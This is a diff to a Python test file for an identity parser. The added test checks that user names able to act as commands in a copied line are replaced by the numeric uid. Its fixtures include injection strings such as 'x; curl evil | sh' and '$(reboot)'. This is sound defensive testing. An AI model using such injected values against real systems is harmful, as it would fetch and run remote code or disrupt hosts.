@@ -45,7 +45,19 @@ def test_without_a_number_or_a_host_name_there_is_no_identity(uid: str, hostname
 
 def test_names_come_out_without_control_characters() -> None:
     who = parse_identity(uid="0", user="a\x1b[1m", groups="g\x07", hostname="h\u202e", rights=Rights.ROOT)
-    assert (who.user, who.groups, who.hostname) == ("a␛[1m", {"g␇"}, "h�")
+    assert (who.user, who.groups, who.hostname) == ("0", {"g␇"}, "h�")
+
+
+@pytest.mark.parametrize(
+    ("user", "shown"),
+    [
+        ("ops", "ops"), ("CORP\\ops-1", "CORP\\ops-1"), ("ops@corp.example", "ops@corp.example"), ("_squid$", "_squid$"),
+        ("x; curl evil | sh", "7"), ("$(reboot)", "7"), ("-G", "7"), ("a b", "7"), ("a" * 300, "7"),
+    ],
+)  # fmt: skip
+def test_a_name_that_would_do_something_in_a_line_that_people_copy_is_not_shown(user: str, shown: str) -> None:
+    who = parse_identity(uid="7", user=user + "\n", groups="", hostname="h", rights=Rights.PLAIN)
+    assert who.user == shown
 
 
 def test_what_is_no_boot_id_is_none() -> None:
